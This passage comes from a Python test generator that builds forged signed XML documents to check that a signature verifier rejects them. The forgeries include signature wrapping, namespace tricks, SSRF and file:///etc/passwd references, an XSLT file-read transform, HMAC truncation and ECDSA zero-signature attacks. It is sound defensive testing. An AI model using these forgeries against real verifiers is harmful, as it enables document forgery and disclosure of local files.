        "xsw6-signed-original-in-object",
        root,
        "SignatureError",
        SIG_OUTSIDE,
        "XSW6: forged document with a copied signature whose ds:Object holds the signed original with its own "
        "signature.",
    )
    root = evil_content(original)
    etree.SubElement(root, "{urn:attacker:ext}Extensions", nsmap={"ext": "urn:attacker:ext"}).append(
        without_blocks(original)
    )
    root.extend(blocks_copy(original))
    add(
        "xsw7-original-in-extensions",
        root,
        "SignatureError",
        DIGEST_CHANGED,
        "XSW7: forged document; the signed original hidden in a foreign Extensions element, signature copied.",
    )
    root = evil_content(original)
    signing, signature = blocks_copy(original)
    etree.SubElement(signature, DS + "Object").append(without_blocks(original))
    root.extend([signing, signature])
    add(
        "xsw8-original-in-object",
        root,
        "SignatureError",
        SIGNATURE_CHILDREN + " SignedInfo, SignatureValue, KeyInfo, Object",
        "XSW8: forged document with the copied signature; the signed original (without signature) in ds:Object.",
    )
    root = signed_copy()
    etree.SubElement(signature_blocks(root)[-1], DS + "Object").append(evil_content(original))
    add(
        "unsigned-object-in-valid-signature",
        root,
        "SignatureError",
        SIGNATURE_CHILDREN + " SignedInfo, SignatureValue, KeyInfo, Object",
        "The valid signed notice, untouched, with a forged document in a ds:Object appended to its Signature: "
        "the digest and signature value still verify, only the profile refuses the unsigned Object.",
    )


def placement_attacks(c: Context) -> None:
    """Where the signature sits."""
    original, add, signed_copy = c.original, c.add, c.signed_copy
    root = signed_copy()
    body = first(root, GW + "Body")
    for element in signature_blocks(root):
        body.append(element)
    add(
        "signature-inside-body",
        root,
        "SignatureError",
        NOT_SIGNED,
        "The Signing and Signature elements moved inside the Body (the enveloped transform would still remove "
        "the signature wherever it is).",
    )
    root = signed_copy()
    first(root, GW + "Body").append(copy.deepcopy(signature_blocks(root)[-1]))
    add(
        "signature-copy-inside-body",
        root,
        "SignatureError",
        SIG_OUTSIDE,
        "A second copy of the valid signature inside the Body, the original block left in place.",
    )
    root = signed_copy()
    for i, element in enumerate(signature_blocks(root)):
        root.insert(i, element)
    add(
        "signature-before-content",
        root,
        "SignatureError",
        NOT_SIGNED,
        "The signature block moved in front of the content (first children of the document element).",
    )
    root = signed_copy()
    anchor = first(root, GW + "SignatureName")
    for element in signature_blocks(root):
        anchor.addprevious(element)
    add(
        "signature-in-the-middle",
        root,
        "SignatureError",
        NOT_SIGNED,
        "The signature block moved between Body and SignatureName: it is no longer last.",
    )
    root = signed_copy()
    note = etree.SubElement(root, GW + "Note")
    note.text = EVIL_PARAGRAPH
    add(
        "content-after-signature",
        root,
        "SignatureError",
        NOT_SIGNED,
        "A forged Note appended after the signature block.",
    )
    root = signed_copy()
    root.append(copy.deepcopy(signature_blocks(root)[-1]))
    add(
        "signature-duplicated",
        root,
        "SignatureError",
        NOT_SIGNED,
        "Two identical ds:Signature elements after one Signing element.",
    )
    root = signed_copy()
    root.extend(blocks_copy(original))
    add(
        "signature-block-duplicated",
        root,
        "SignatureError",
        ORDER_BROKEN,
        "The whole signature block (Signing + Signature) repeated: the second copy does not cover the first.",
    )
    root = signed_copy()
    root.insert(0, copy.deepcopy(first(root, GW + "Signing")))
    add(
        "signing-element-outside-blocks",
        root,
        "SignatureError",
        "a Signing element appears outside the signature blocks",
        "An extra Signing element at the start of the document.",
    )
    root = signed_copy()
    signing = signature_blocks(root)[0]
    signing.addnext(etree.Element(GW + "Signing", department=OFFICE, time=SIGNED_AT.strftime(TIME)))
    add(
        "signing-element-doubled",
        root,
        "SignatureError",
        "a Signing element appears outside the signature blocks",
        "Two Signing elements in front of one Signature.",
    )


def namespace_attacks(c: Context) -> None:
    """Namespace tricks."""
    signed, add, signed_copy = c.signed, c.add, c.signed_copy
    add(
        "gw-prefix-rebound",
        signed.replace(b'xmlns:gw="' + GW_NS.encode() + b'"', b'xmlns:gw="urn:attacker:gongwen"', 1),
        "DocumentError",
        "根元素应为 gw:Document",
        "The gw prefix bound to another namespace on the document element: same text, other elements.",
    )
    root = signed_copy()
    evil_title = etree.Element("{urn:attacker:gongwen}Title", nsmap={"gw": "urn:attacker:gongwen"})
    evil_title.text = EVIL_TITLE
    first(root, GW + "Title").addprevious(evil_title)
    add(
        "gw-prefix-rebound-inner",
        root,
        "SignatureError",
        DIGEST_CHANGED,
        "A forged <gw:Title xmlns:gw='urn:attacker:gongwen'> before the real Title: same prefix, other namespace "
        "(fools readers that match on the prefixed name).",
    )
    root = signed_copy()
    evil_title = etree.Element(GW + "Title", nsmap={None: GW_NS})
    evil_title.text = EVIL_TITLE
    first(root, GW + "Title").addprevious(evil_title)
    add(
        "default-namespace-title",
        root,
        "SignatureError",
        DIGEST_CHANGED,
        "A forged <Title xmlns='urn:gwexchange:document:1'> (default namespace, no prefix) before the real Title.",
    )
    unprefixed = signed.replace(b"<gw:", b"<").replace(b"</gw:", b"</").replace(b"xmlns:gw=", b"xmlns=")
    add(
        "default-namespace-document",
        unprefixed,
        "SignatureError",
        DIGEST_CHANGED,
        "The document rewritten with a default namespace instead of the gw prefix: same names, but exclusive C14N "
        "keeps prefixes, so it is not what was signed.",
    )
    add(
        "ds-prefix-rebound",
        signed.replace(b'xmlns:ds="' + DS_NS.encode() + b'"', b'xmlns:ds="urn:attacker:dsig"', 1),
        "SignatureError",
        NOT_SIGNED,
        "The ds prefix of the Signature bound to another namespace: it is no ds:Signature at all.",
    )
    add(
        "ds-prefix-rebound-reference",
        signed.replace(b'<ds:Reference URI="">', b'<ds:Reference xmlns:ds="urn:attacker:dsig" URI="">', 1),
        "SignatureError",
        "ds:SignedInfo must contain exactly CanonicalizationMethod, SignatureMethod, Reference",
        "The ds prefix re-bound to another namespace on ds:Reference only.",
    )
    root = signed_copy()
    signature = signature_blocks(root)[-1]
    rebuilt = etree.fromstring(etree.tostring(signature).replace(b"ds:", b"").replace(b"xmlns:ds=", b"xmlns="))
    signature.addnext(rebuilt)
    root.remove(signature)
    add(
        "signature-default-namespace",
        root,
        "SignatureError",
        "signature value does not verify",
        "The Signature rewritten with the XML-DSig namespace as default namespace (no ds: prefix): the digest "
        "still matches, but the canonical SignedInfo is not what was signed.",
    )


def reference_attacks(c: Context) -> None:
    """The reference."""
    office, add, fresh, custom = c.office, c.add, c.fresh, c.custom

    def digest_element(element_path: str) -> Callable[[etree._Element, etree._Element], bytes]:
        def over(root: etree._Element, signature: etree._Element) -> bytes:
            return c14n(first(root, element_path))

        return over

    root = fresh()
    root.set("Id", "gwdoc")
    sign_shape(root, office, Shape(uri="#gwdoc"))
    add(
        "reference-id-root",
        root,
        "SignatureError",
        URI_REFUSED,
        "Reference URI='#gwdoc' to an Id on the document element, correctly signed with the office's key.",
    )
    root = fresh()
    first(root, GW + "Body").set("Id", "body")
    first(root, GW + "Title").text = EVIL_TITLE
    sign_shape(
        root, office, Shape(uri="#body", transforms=((EXC_C14N, None),), digest_input=digest_element(GW + "Body"))
    )
    add(
        "reference-id-body",
        root,
        "SignatureError",
        URI_REFUSED,
        "Reference URI='#body' to an Id on the Body only: the Title is not covered and has been forged.",
    )
    root = fresh()
    first(root, GW + "Body").set("Id", "body")
    first(root, GW + "Title").text = EVIL_TITLE
    sign_shape(
        root,
        office,
        Shape(uri="#xpointer(id('body'))", transforms=((EXC_C14N, None),), digest_input=digest_element(GW + "Body")),
    )
    add(
        "reference-xpointer-id",
        root,
        "SignatureError",
        URI_REFUSED,
        "Reference URI=\"#xpointer(id('body'))\": a fragment reference to the Body only.",
    )
    add(
        "reference-xpointer-root",
        custom(Shape(uri="#xpointer(/)")),
        "SignatureError",
        URI_REFUSED,
        "Reference URI='#xpointer(/)' (the whole document, with comments) instead of URI=''.",
    )
    add(
        "reference-external-http",
        custom(
            Shape(
                uri="http://attacker.example/gongwen.xml",
                transforms=((EXC_C14N, None),),
                digest_input=lambda root, sig: b"remote content",
            )
        ),
        "SignatureError",
        URI_REFUSED,
        "Reference to an external http:// URI (SSRF, detached content).",
    )
    add(
        "reference-external-file",
        custom(
            Shape(
                uri="file:///etc/passwd",
                transforms=((EXC_C14N, None),),
                digest_input=lambda root, sig: b"root:x:0:0:root:/root:/bin/bash\n",
            )
        ),
        "SignatureError",
        URI_REFUSED,
        "Reference to file:///etc/passwd.",
    )
    add(
        "reference-without-uri",
        custom(Shape(uri=None)),
        "SignatureError",
        URI_REFUSED,
        "A Reference with no URI attribute (the application is supposed to know what it means).",
    )

    def type_attribute(signature: etree._Element) -> None:
        first(signature, f"{DS}SignedInfo/{DS}Reference").set("Type", "http://www.w3.org/2000/09/xmldsig#Object")

    add(
        "reference-type-attribute",
        custom(Shape(before_signing=type_attribute)),
        "SignatureError",
        "ds:Reference has attributes outside the profile: ['Type']",
        "A Type attribute on the Reference.",
    )

    def second_reference(signature: etree._Element) -> None:
        reference = first(signature, f"{DS}SignedInfo/{DS}Reference")
        extra = copy.deepcopy(reference)
        extra.set("URI", "#evil")
        reference.addnext(extra)

    add(
        "two-references",
        custom(Shape(before_signing=second_reference)),
        "SignatureError",
        "ds:SignedInfo must contain exactly CanonicalizationMethod, SignatureMethod, Reference; found "
        "CanonicalizationMethod, SignatureMethod, Reference, Reference",
        "SignedInfo with a second Reference (URI='#evil'), correctly signed.",
    )

    def extra_in_signed_info(signature: etree._Element) -> None:
        etree.SubElement(
            first(signature, DS + "SignedInfo"), "{urn:attacker:evil}Note", nsmap={"evil": EVIL_NS}
        ).text = "ignored"

    add(
        "extra-element-in-signedinfo",
        custom(Shape(before_signing=extra_in_signed_info)),
        "SignatureError",
        "ds:SignedInfo must contain exactly CanonicalizationMethod, SignatureMethod, Reference; found "
        "CanonicalizationMethod, SignatureMethod, Reference, Note",
        "A foreign element appended inside SignedInfo, correctly signed.",
    )

    def signed_info_id(signature: etree._Element) -> None:
        first(signature, DS + "SignedInfo").set("Id", "si")

    add(
        "signedinfo-attribute",
        custom(Shape(before_signing=signed_info_id)),
        "SignatureError",
        "ds:SignedInfo has attributes outside the profile: ['Id']",
        "An Id attribute on SignedInfo.",
    )


def algorithm_attacks(c: Context) -> None:
    """Algorithms."""
    office, office_rsa, add, fresh, custom = c.office, c.office_rsa, c.add, c.fresh, c.custom

    def child(local: str, text: str | None = None, ns: str = DS_NS, **attrs: str) -> Hook:
        def build(parent: etree._Element) -> None:
            etree.SubElement(parent, "{" + ns + "}" + local, attrs).text = text

        return build

    add(
        "c14n-inclusive",
        custom(Shape(c14n=INCL_C14N)),
        "SignatureError",
        f"canonicalization algorithm {INCL_C14N} is not accepted",
        "Inclusive C14N 1.0 as CanonicalizationMethod (in-scope namespaces leak into SignedInfo).",
    )
    add(
        "c14n-11",
        custom(Shape(c14n=C14N11)),
        "SignatureError",
        f"canonicalization algorithm {C14N11} is not accepted",
        "C14N 1.1 as CanonicalizationMethod.",
    )
    add(
        "c14n-with-comments",
        custom(Shape(c14n=EXC_C14N_COMMENTS)),
        "SignatureError",
        f"canonicalization algorithm {EXC_C14N_COMMENTS} is not accepted",
        "Exclusive C14N WithComments as CanonicalizationMethod.",
    )
    add(
        "transform-c14n-11",
        custom(Shape(transforms=((ENVELOPED, None), (C14N11, None)))),
        "SignatureError",
        f"transform algorithm {C14N11} is not accepted",
        "C14N 1.1 as the second transform.",
    )
    add(
        "transform-inclusive-c14n",
        custom(Shape(transforms=((ENVELOPED, None), (INCL_C14N, None)))),
        "SignatureError",
        f"transform algorithm {INCL_C14N} is not accepted",
        "Inclusive C14N 1.0 as the second transform.",
    )
    stylesheet = (
        b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
        b'<xsl:template match="/"><xsl:copy-of select="document(\'file:///etc/passwd\')"/>'
        b'<xsl:copy-of select="."/></xsl:template></xsl:stylesheet>'
    )

    def xslt(transform: etree._Element) -> None:
        transform.append(etree.fromstring(stylesheet))

    add(
        "transform-xslt",
        custom(Shape(transforms=((ENVELOPED, None), (XSLT, xslt)))),
        "SignatureError",
        "the transform " + NO_PARAMETERS,
        "An XSLT transform whose stylesheet reads file:///etc/passwd (code execution inside verification).",
    )
    add(
        "transform-xpath",
        custom(Shape(transforms=((XPATH, child("XPath", "not(ancestor-or-self::ds:Signature)")), (EXC_C14N, None)))),
        "SignatureError",
        "the transform " + NO_PARAMETERS,
        "An XPath transform not(ancestor-or-self::ds:Signature) instead of enveloped-signature (XPath runs inside "
        "verification: DoS and selection tricks).",
    )
    add(
        "transform-xpath-filter2",
        custom(
            Shape(
                transforms=(
                    (XPATH_FILTER2, child("XPath", "//ds:Signature", ns=XPATH_FILTER2, Filter="subtract")),
                    (EXC_C14N, None),
                )
            )
        ),
        "SignatureError",
        "the transform " + NO_PARAMETERS,
        "An XPath Filter 2.0 transform (subtract //ds:Signature) instead of enveloped-signature.",
    )
    add(
        "transform-exc-c14n-prefixlist",
        custom(
            Shape(
                transforms=(
                    (ENVELOPED, None),
                    (EXC_C14N, child("InclusiveNamespaces", ns=EXC_C14N, PrefixList="gw ds")),
                )
            )
        ),
        "SignatureError",
        "the transform " + NO_PARAMETERS,
        "Exclusive C14N with an InclusiveNamespaces PrefixList parameter.",
    )
    add(
        "transforms-three",
        custom(Shape(transforms=((ENVELOPED, None), (ENVELOPED, None), (EXC_C14N, None)))),
        "SignatureError",
        "ds:Transforms must contain exactly Transform, Transform; found Transform, Transform, Transform",
        "Three transforms (enveloped-signature twice).",
    )
    add(
        "transforms-swapped",
        custom(Shape(transforms=((EXC_C14N, None), (ENVELOPED, None)))),
        "SignatureError",
        "transforms must be exactly enveloped-signature then exclusive C14N",
        "The two allowed transforms in the wrong order.",
    )
    add(
        "transforms-only-enveloped",
        custom(Shape(transforms=((ENVELOPED, None),))),
        "SignatureError",
        "ds:Transforms must contain exactly Transform, Transform; found Transform",
        "Only the enveloped-signature transform (the default inclusive C14N applies).",
    )
    add(
        "digest-sha1",
        custom(Shape(digest=SHA1)),
        "SignatureError",
        f"digest algorithm {SHA1} is not accepted",
        "SHA-1 as DigestMethod, correctly computed and signed.",
    )
    add(
        "digest-md5",
        custom(Shape(digest=MD5)),
        "SignatureError",
        f"digest algorithm {MD5} is not accepted",
        "MD5 (xmldsig-more#md5) as DigestMethod, correctly computed and signed.",
    )
    add(
        "signature-ecdsa-sha1",
        custom(Shape(method=ECDSA_SHA1)),
        "SignatureError",
        f"signature algorithm {ECDSA_SHA1} is not accepted",
        "ECDSA-SHA1 SignatureMethod with the office's key.",
    )
    add(
        "signature-rsa-sha1",
        custom(Shape(method=RSA_SHA1), office_rsa),
        "SignatureError",
        f"signature algorithm {RSA_SHA1} is not accepted",
        "RSA-SHA1 SignatureMethod with the office's RSA key.",
    )
    add(
        "signature-rsa-pss",
        custom(Shape(method=RSA_PSS), office_rsa),
        "SignatureError",
        f"signature algorithm {RSA_PSS} is not accepted",
        "RSA-PSS (SHA-256, MGF1) with the office's RSA key.",
    )
    add(
        "signature-hmac-sha256",
        custom(Shape(method=HMAC_SHA256, hmac_key=office.der)),
        "SignatureError",
        f"signature algorithm {HMAC_SHA256} is not accepted",
        "HMAC-SHA256 keyed with the public certificate in KeyInfo (key confusion: anyone can compute it).",
    )

    def hmac_output_length(signature: etree._Element) -> None:
        method = first(signature, f"{DS}SignedInfo/{DS}SignatureMethod")
        etree.SubElement(method, DS + "HMACOutputLength").text = "0"

    root = custom(Shape(method=HMAC_SHA1, hmac_key=office.der, before_signing=hmac_output_length))
    signature_blocks(root)[-1].find(DS + "SignatureValue").text = ""
    add(
        "hmac-output-length-zero",
        root,
        "SignatureError",
        "the signature " + NO_PARAMETERS,
        "CVE-2009-0217: HMAC-SHA1 with HMACOutputLength 0 and an empty SignatureValue.",
    )
    add(
        "hmac-output-length-on-ecdsa",
        custom(Shape(before_signing=hmac_output_length)),
        "SignatureError",
        "the signature " + NO_PARAMETERS,
        "An HMACOutputLength parameter on the ECDSA-SHA256 SignatureMethod.",
    )
    # A correct ECDSA value over a SignedInfo labelled RSA-SHA256: only the key-type check can catch it.
    root = fresh()
    sign_shape(root, office)
    signature = signature_blocks(root)[-1]
    first(signature, f"{DS}SignedInfo/{DS}SignatureMethod").set("Algorithm", RSA_SHA256)
    signed_info = first(signature, DS + "SignedInfo")
    first(signature, DS + "SignatureValue").text = b64(signature_value(ECDSA_SHA256, office.key, c14n(signed_info)))
    add(
        "algorithm-rsa-with-ec-key",
        root,
        "SignatureError",
        "does not match the certificate's key type",
        "Algorithm confusion: SignatureMethod says RSA-SHA256, the certificate holds an EC key.",
    )
    root = fresh()
    sign_shape(root, office_rsa, Shape(method=RSA_SHA256))
    signature = signature_blocks(root)[-1]
    first(signature, f"{DS}SignedInfo/{DS}SignatureMethod").set("Algorithm", ECDSA_SHA256)
    first(signature, DS + "SignatureValue").text = b64(
        signature_value(RSA_SHA256, office_rsa.key, c14n(first(signature, DS + "SignedInfo")))
    )
    add(
        "algorithm-ecdsa-with-rsa-key",
        root,
        "SignatureError",
        "does not match the certificate's key type",
        "Algorithm confusion: SignatureMethod says ECDSA-SHA256, the certificate holds an RSA key.",
    )


def value_attacks(c: Context) -> None:
    """The signature value."""
    joint, original, office, add, signed_copy = c.joint, c.original, c.office, c.add, c.signed_copy

    def with_value(value: str, source: etree._Element | None = None) -> etree._Element:
        root = copy.deepcopy(source) if source is not None else signed_copy()
        signature_blocks(root)[-1].find(DS + "SignatureValue").text = value
        return root

    add(
        "signature-value-not-base64",
        with_value("!!not-base64!!"),
        "SignatureError",
        "ds:SignatureValue is not valid base64",
        "A SignatureValue that is not base64.",
    )
    add(
        "signature-value-zero",
        with_value(b64(bytes(64))),
        "SignatureError",
        "signature value does not verify",
        "ECDSA r = s = 0 (CVE-2022-21449, 'psychic signatures').",
    )
    add(
        "signature-value-short",
        with_value(b64(bytes(63))),
        "SignatureError",
        "ECDSA signature value has the wrong length",
        "A 63-byte ECDSA SignatureValue.",
    )
    add(
        "signature-value-der",
        with_value(b64(office.key.sign(b"x", ec.ECDSA(hashes.SHA256())))),
        "SignatureError",
        "ECDSA signature value has the wrong length",
        "An ECDSA value in DER (X9.62) form instead of the raw r‖s of RFC 4051.",
    )
    add(
        "signature-value-empty",
        with_value(""),
        "SignatureError",
        "ECDSA signature value has the wrong length",
        "An empty SignatureValue.",
    )
    add(
        "signature-value-transplanted",
        with_value(signature_blocks(original)[-1].find(DS + "SignatureValue").text or "", parse(joint)),
        "SignatureError",
        "signature value does not verify",
        "The SignatureValue of the signed notice pasted over the last signature of the joint notice.",
    )


def keyinfo_attacks(c: Context) -> None:
    """KeyInfo."""
    pki, office, add, fresh, signed_copy, custom = c.pki, c.office, c.add, c.fresh, c.signed_copy, c.custom
    add(
        "keyinfo-two-certificates",
        custom(Shape(certificates=(pki.attacker_office.der, office.der))),
        "SignatureError",
        "ds:X509Data must contain exactly X509Certificate; found X509Certificate, X509Certificate",
        "Two certificates in X509Data: the attacker's first, the office's second.",
    )

    def second_x509data(signature: etree._Element) -> None:
        key_info = first(signature, DS + "KeyInfo")
        extra = etree.SubElement(key_info, DS + "X509Data")
        etree.SubElement(extra, DS + "X509Certificate").text = b64(pki.attacker_office.der)
        key_info.insert(0, extra)

    add(
        "keyinfo-two-x509data",
        custom(Shape(before_signing=second_x509data)),
        "SignatureError",
        "ds:KeyInfo must contain exactly X509Data; found X509Data, X509Data",
        "Two X509Data elements in KeyInfo, the attacker's first.",
    )

    def key_value(signature: etree._Element) -> None:
        key_info = first(signature, DS + "KeyInfo")
        key_info.remove(first(key_info, DS + "X509Data"))
        numbers = pki.attacker_office.key.public_key().public_numbers()
        assert isinstance(numbers, ec.EllipticCurvePublicNumbers)
        ec_key = etree.SubElement(
            etree.SubElement(key_info, DS + "KeyValue"), DS11 + "ECKeyValue", nsmap={"dsig11": DS11_NS}
        )
        etree.SubElement(ec_key, DS11 + "NamedCurve", URI="urn:oid:1.2.840.10045.3.1.7")
        etree.SubElement(ec_key, DS11 + "PublicKey").text = b64(
            b"\x04" + numbers.x.to_bytes(32, "big") + numbers.y.to_bytes(32, "big")
        )

    root = fresh()
    first(root, GW + "Title").text = EVIL_TITLE
    sign_shape(root, pki.attacker_office, Shape(before_signing=key_value))
    add(
        "keyinfo-keyvalue",
        root,
        "SignatureError",
        "ds:KeyInfo must contain exactly X509Data; found KeyValue",
        "A forged notice signed by the attacker's key, given as a bare KeyValue instead of a certificate.",
    )
    root = signed_copy()
    signature = signature_blocks(root)[-1]
    signature.remove(first(signature, DS + "KeyInfo"))
    add(
        "keyinfo-missing",
        root,
        "SignatureError",
        SIGNATURE_CHILDREN + " SignedInfo, SignatureValue",
        "The valid signature with its KeyInfo removed (the verifier is supposed to know the key).",
    )
    root = signed_copy()
    certificate = first(signature_blocks(root)[-1], f"{DS}KeyInfo/{DS}X509Data/{DS}X509Certificate")
    certificate.text = b64(b"\x30\x03\x02\x01\x00")
    add(
        "certificate-not-der",
        root,
        "TrustError",
        "certificate is not valid DER X.509",
        "A KeyInfo certificate that is not an X.509 certificate.",
    )


def certificate_attacks(c: Context) -> None:
    """Certificates: whose key signed."""
    pki, add, fresh, custom = c.pki, c.add, c.fresh, c.custom

    def forged(signer: Holder, **kw: str) -> etree._Element:
        root = fresh()
        first(root, GW + "Title").text = EVIL_TITLE
        sign_shape(root, signer, **kw)
        return root

    add(
        "cert-self-signed",
        forged(pki.self_signed_office),
        "TrustError",
        "certificate is self-signed; only certificates issued by the root are trusted",
        "A forged notice correctly signed with an attacker's key and a self-signed certificate naming gd.gov.office.",
    )
    add(
        "cert-attacker-root",
        forged(pki.attacker_office),
        "TrustError",
        "certificate is not issued by the configured root",
        "A forged notice signed with a gd.gov.office certificate from the attacker's own root.",
    )
    add(
        "cert-impostor-root",
        forged(pki.impostor_office),
        "TrustError",
        "certificate's signature does not verify with the configured root",
        "A forged notice signed with a certificate from an impostor root that copies the trusted root's name.",
    )
    add(
        "cert-root-itself",
        forged(pki.root),
        "TrustError",
        "certificate is self-signed",
        "A forged notice signed with the root key, the root certificate in KeyInfo.",
    )
    add(
        "cert-ca-flag",
        forged(pki.ca_flag_office),
        "TrustError",
        "an end-entity certificate must say it is not a CA",
        "Signed with a certificate the root issued with basicConstraints CA=true (naming gd.gov.office).",
    )
    add(
        "cert-from-sub-ca",
        forged(pki.sub_ca_office),
        "TrustError",
        "certificate is not issued by the configured root",
        "Signed with a gd.gov.office certificate issued by a sub-CA (only direct issuance by the root counts).",
    )
    add(
        "cert-expired",
        custom(signer=pki.office_expired),
        "TrustError",
        "is not valid at 2026-11-20T08:00:00Z: valid 2026-01-01T00:00:00Z to 2026-03-01T00:00:00Z",
        "The notice signed on 2026-11-20 with gd.gov.office's certificate that expired on 2026-03-01.",
    )
    add(
        "cert-revoked",
        custom(signer=pki.office_revoked),
        "TrustError",
        "was revoked on 2026-06-01T00:00:00Z (keyCompromise)",
        "The notice signed with gd.gov.office's certificate revoked for keyCompromise on 2026-06-01.",
    )
    add(
        "cert-revoked-backdated",
        custom(signer=pki.office_revoked, time="2026-05-01T08:00:00Z"),
        "TrustError",
        "was revoked on 2026-06-01T00:00:00Z (keyCompromise)",
        "Signed with the compromised key and backdated before the revocation: keyCompromise voids every "
        "signature whatever time it claims.",
    )
    add(
        "cert-encryption",
        custom(signer=pki.office_encryption),
        "TrustError",
        "certificate of gd.gov.office is not a signing certificate (key usage)",
        "Signed with gd.gov.office's encryption (key agreement) certificate.",
    )
    add(
        "cert-node",
        custom(signer=pki.node),
        "TrustError",
        "certificate of gd-hub.gov is a node certificate, not a department one",
        "The exchange node's key signs the notice as gd.gov.office (Signing names gd.gov.office).",
    )


def signing_attacks(c: Context) -> None:
    """The Signing element."""
    pki, signed, add, signed_copy, custom = c.pki, c.signed, c.add, c.signed_copy, c.custom
    add(
        "signing-department-mismatch",
        custom(department=CZT),
        "SignatureError",
        ORDER_BROKEN,
        "Signed by gd.gov.office with a Signing element that names gd.gov.czt.",
    )
    add(
        "signing-by-other-department",
        custom(signer=pki.czt, department=CZT),
        "SignatureError",
        "signatures by gd.gov.czt do not follow the issuing departments gd.gov.office",
        "gd.gov.czt, a trusted department but not the issuer, signs the office's notice in its own name.",
    )
    add(
        "signing-time-future",
        custom(time="2027-01-01T00:00:00Z"),
        "SignatureError",
        "claims a future time 2027-01-01T00:00:00Z",
        "Correctly signed, claiming a signing time in 2027 (after the verifier's clock).",
    )
    add(
        "signing-time-malformed",
        custom(time="2026-11-20T16:00:00+08:00"),
        "SignatureError",
        "signing time '2026-11-20T16:00:00+08:00' is not of the form",
        "Correctly signed, with a signing time not in the form YYYY-MM-DDThh:mm:ssZ.",
    )
    root = signed_copy()
    root.remove(signature_blocks(root)[0])
    add(
        "signing-element-missing",
        root,
        "SignatureError",
        NOT_SIGNED,
        "The Signing element removed: the Signature alone is no signature block.",
    )
    appended = parse(signed)
    sign_shape(appended, pki.czt, department=CZT, time=SECOND_SIGNED_AT.strftime(TIME))
    add(
        "extra-signature-by-non-issuer",
        appended,
        "SignatureError",
        "signatures by gd.gov.office, gd.gov.czt do not follow the issuing departments gd.gov.office",
        "The valid notice co-signed afterwards by gd.gov.czt, which is not an issuer.",
    )


def joint_attacks(c: Context) -> None:
    """Joint documents."""
    pki, joint, joint_draft, add = c.pki, c.joint, c.joint_draft, c.add
    joint_root = parse(joint)
    root = copy.deepcopy(joint_root)
    for element in signature_blocks(root)[2:]:
        root.remove(element)
    add(
        "joint-second-signature-stripped",
        root,
        "SignatureError",
        "the document is not fully signed: gd.gov.gxt has not signed yet",
        "The joint notice with the second department's (gd.gov.gxt) signature block removed.",
    )
    root = copy.deepcopy(joint_root)
    for element in signature_blocks(root)[:2]:
        root.remove(element)
    add(
        "joint-first-signature-stripped",
        root,
        "SignatureError",
        ORDER_BROKEN,
        "The joint notice with the lead department's (gd.gov.czt) block removed: gxt's signature covered it.",
    )
    root = copy.deepcopy(joint_root)
    blocks = signature_blocks(root)
    for element in blocks:
        root.remove(element)
    root.extend(blocks[2:] + blocks[:2])
    add(
        "joint-blocks-swapped",
        root,
        "SignatureError",
        ORDER_BROKEN,
        "The two signature blocks of the joint notice in swapped order.",
    )
    root = parse(joint_draft)
    sign_shape(root, pki.czt, department=CZT)
    sign_shape(root, pki.czt, department=CZT, time=SECOND_SIGNED_AT.strftime(TIME))
    add(
        "joint-same-department-twice",
        root,
        "SignatureError",
        "signatures by gd.gov.czt, gd.gov.czt do not follow the issuing departments gd.gov.czt, gd.gov.gxt",
        "The joint notice signed twice by the lead department and never by gd.gov.gxt.",
    )
    root = parse(joint_draft)
    sign_shape(root, pki.czt, department=CZT)
    sign_shape(root, pki.gxt, department=GXT, time="2026-11-20T07:00:00Z")
    add(
        "joint-second-signed-earlier",
        root,
        "SignatureError",
        "gd.gov.gxt claims to have signed before gd.gov.czt",
        "The joint notice whose second signature claims a time before the first.",
    )
    root = parse(joint_draft)
    sign_shape(root, pki.gxt, department=GXT)
    sign_shape(root, pki.czt, department=CZT, time=SECOND_SIGNED_AT.strftime(TIME))
    add(
        "joint-wrong-order",
        root,
        "SignatureError",
        "signatures by gd.gov.gxt, gd.gov.czt do not follow the issuing departments gd.gov.czt, gd.gov.gxt",
        "The joint notice signed by the second department first.",
    )


def schema_attacks(c: Context) -> None:
    """Validly signed, but not a valid 公文."""
    office, add, fresh = c.office, c.add, c.fresh
    root = fresh()
    first(root, GW + "Title").addnext(copy.deepcopy(first(root, GW + "Title")))
    sign_shape(root, office)
    add(
        "signed-two-titles",
        root,
        "DocumentError",
        "不符合公文格式规范：Unexpected child with tag 'gw:Title'",
        "A document with two Title elements, correctly signed by gd.gov.office: the schema still refuses it.",
    )
    root = fresh()
    etree.SubElement(root, "{urn:attacker:evil}Payload", nsmap={"evil": EVIL_NS}).text = EVIL_PARAGRAPH
    sign_shape(root, office)
    add(
        "signed-foreign-element",
        root,
        "DocumentError",
        "不符合公文格式规范：Unexpected child with tag 'evil:Payload'",
        "A foreign element in the document, correctly signed by gd.gov.office: the schema refuses it.",
    )


SECTIONS = (
    parser_attacks,
    content_attacks,
    wrapping_attacks,
    placement_attacks,
    namespace_attacks,
    reference_attacks,
    algorithm_attacks,
    value_attacks,
    keyinfo_attacks,
    certificate_attacks,
    signing_attacks,
    joint_attacks,
    schema_attacks,
)


def build_corpus(pki: Pki, draft: bytes, signed: bytes, joint: bytes, joint_draft: bytes) -> Corpus:
    corpus = Corpus()
    context = Context(pki, draft, signed, joint, joint_draft, corpus)
    for section in SECTIONS:
        section(context)
    return corpus


# --- checking and writing ------------------------------------------------------------------------------------


def check(attack: Attack, trust: TrustPolicy) -> str | None:
    """None if ``verify_document`` refuses the attack as expected, else what happened instead."""
    try:
        verify_document(attack.data, trust, now=VERIFY_NOW)
    except GwxError as e:
        if type(e).__name__ != attack.error or attack.message not in str(e):
            return f"refused with {type(e).__name__}: {e}"
        return None
    except Exception as e:  # a foreign exception is a finding too
        return f"crashed with {type(e).__name__}: {e}"
    return "ACCEPTED: verify_document returned success"


def toml_string(value: str) -> str:
    return json.dumps(value, ensure_ascii=False)


# The classes of the corpus (tests/attacks/README.md lists them with their counts): by exact name, then by prefix.
CLASS_BY_NAME = {
    "truncated": "xml-form",
    "unsigned": "content-tampering",
    "wrapper-root": "content-tampering",
    "title-one-byte": "content-tampering",
    "signing-time-changed": "content-tampering",
    "duplicate-title": "content-tampering",
    "duplicate-body": "content-tampering",
    "text-after-signature": "content-tampering",
    "xinclude": "xslt-xpath-external",
    "unsigned-object-in-valid-signature": "signature-wrapping",
    "signature-default-namespace": "namespace-confusion",
    "certificate-not-der": "keyinfo",
    "extra-signature-by-non-issuer": "signing-blocks",
    "transform-xslt": "xslt-xpath-external",
    "transform-xpath": "xslt-xpath-external",
    "transform-xpath-filter2": "xslt-xpath-external",
}
CLASS_BY_PREFIX = (
    (("doctype", "internal-entity", "external-", "billion-laughs", "utf16-hidden-doctype"), "dtd-entities"),
